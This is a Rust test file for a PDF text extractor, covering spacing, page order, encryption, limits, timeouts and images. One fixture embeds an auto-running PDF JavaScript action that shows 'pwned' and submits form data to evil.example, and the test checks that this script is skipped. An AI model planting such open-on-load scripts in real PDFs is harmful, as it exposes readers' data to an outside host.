//! Text comes out of PDFs with spaces between words; nothing in a PDF runs.

use std::time::Duration;

use tandem_content::{extract, extract_guarded, ExtractError, FileFormat, Limits};

use crate::fixtures::{self, PdfBuilder};

#[test]
fn a_pdf_gives_its_words_with_spaces() {
    let pdf = fixtures::pdf(&["Zero-trust onboarding for banks", "Quarterly churn fell 18% (after rollout)"]);
    assert_eq!(FileFormat::detect("brief.pdf", &pdf), FileFormat::Pdf);

    let extracted = extract(&pdf, FileFormat::Pdf, &Limits::default()).expect("pdf text");
    assert_eq!(extracted.text, "Zero-trust onboarding for banks\nQuarterly churn fell 18% (after rollout)\n");
    assert!(!extracted.truncated);
}

#[test]
fn pages_come_in_order() {
    let mut builder = PdfBuilder::new("");
    for page in ["first page about pricing", "second page about security", "third page about support"] {
        builder.text_page(&[page], "", "");
    }
    let text = extract(&builder.build(), FileFormat::Pdf, &Limits::default()).expect("pdf").text;
    assert_eq!(text, "first page about pricing\nsecond page about security\nthird page about support\n");
}

#[test]
fn javascript_in_a_pdf_is_only_read_past() {
    let mut builder = PdfBuilder::new("/OpenAction 5 0 R /Names << /JavaScript << /Names [(boot) 5 0 R] >> >>");
    builder.object("<< /Type /Action /S /JavaScript /JS (app.alert\\('pwned'\\); this.submitForm\\('http://evil.example'\\);) >>");
    builder.text_page(&["Battlecard: zero-trust onboarding"], "", "");

    let text = extract(&builder.build(), FileFormat::Pdf, &Limits::default()).expect("pdf").text;

    assert!(text.contains("Battlecard: zero-trust onboarding"), "{text:?}");
    assert!(!text.contains("alert"), "script source is not page text: {text:?}");
}

#[test]
fn a_password_protected_pdf_is_refused_clearly() {
    let pdf = fixtures::encrypted(&fixtures::pdf(&["zero-trust onboarding"]), "secret");
    let error = extract(&pdf, FileFormat::Pdf, &Limits::default()).expect_err("encrypted");
    assert_eq!(error, ExtractError::Encrypted);
    assert_eq!(error.to_string(), "This PDF is protected by a password; remove the password and add it again to index its text.");
}

#[test]
fn a_pdf_locked_only_against_editing_still_gives_its_text() {
    let pdf = fixtures::encrypted(&fixtures::pdf(&["zero-trust onboarding"]), "");
    assert!(!pdf.windows(21).any(|w| w == b"zero-trust onboarding"), "the text is really encrypted");
    let text = extract(&pdf, FileFormat::Pdf, &Limits::default()).expect("readable").text;
    assert!(text.contains("zero-trust onboarding"), "{text:?}");
}

#[test]
fn the_text_limit_stops_reading_early() {
    let mut builder = PdfBuilder::new("");
    for _ in 0..5 {
        builder.text_page(&["zero-trust onboarding"; 20], "", "");
    }
    let limits = Limits { max_text_chars: 50, ..Limits::default() };
    let extracted = extract(&builder.build(), FileFormat::Pdf, &limits).expect("pdf");
    assert!(extracted.truncated);
    assert!(extracted.text.chars().count() <= 50);
    assert!(extracted.text.starts_with("zero-trust onboarding"), "{:?}", extracted.text);
}

#[test]
fn a_slow_extraction_times_out_and_the_caller_moves_on() {
    let mut builder = PdfBuilder::new("");
    for _ in 0..60 {
        builder.text_page(&["quarterly churn fell 18% across every segment we measured"; 40], "", "");
    }
    let pdf = builder.build();
    let limits = Limits { timeout: Duration::from_millis(1), ..Limits::default() };

    let started = std::time::Instant::now();
    let error = extract_guarded(pdf.clone(), FileFormat::Pdf, limits).expect_err("too slow for 1 ms");

    assert_eq!(error, ExtractError::TimedOut { format: FileFormat::Pdf, limit: Duration::from_millis(1) });
    assert!(started.elapsed() < Duration::from_secs(1), "returned at the timeout, not at the end");
    let done = extract_guarded(fixtures::pdf(&["zero-trust onboarding"]), FileFormat::Pdf, Limits::default()).expect("fast enough");
    assert!(done.text.contains("zero-trust onboarding"));
}

#[test]
fn images_in_a_pdf_do_not_stop_its_text() {
    let mut builder = PdfBuilder::new("");
    // Object 5: a JPEG-like image; pdf-extract would otherwise parse its bytes as drawing instructions.
    builder.stream(
        "/Type /XObject /Subtype /Image /Width 1 /Height 1 /ColorSpace /DeviceRGB /BitsPerComponent 8 /Filter /DCTDecode",
        "\u{1}\u{2}(((]]>>>> BT ET Tj",
    );
    builder.text_page(&["Case study: zero-trust onboarding"], "/XObject << /Im1 5 0 R >>", "q 10 0 0 10 0 0 cm /Im1 Do Q\n");
    let text = extract(&builder.build(), FileFormat::Pdf, &Limits::default()).expect("pdf").text;
    assert_eq!(text, "Case study: zero-trust onboarding\n");
}
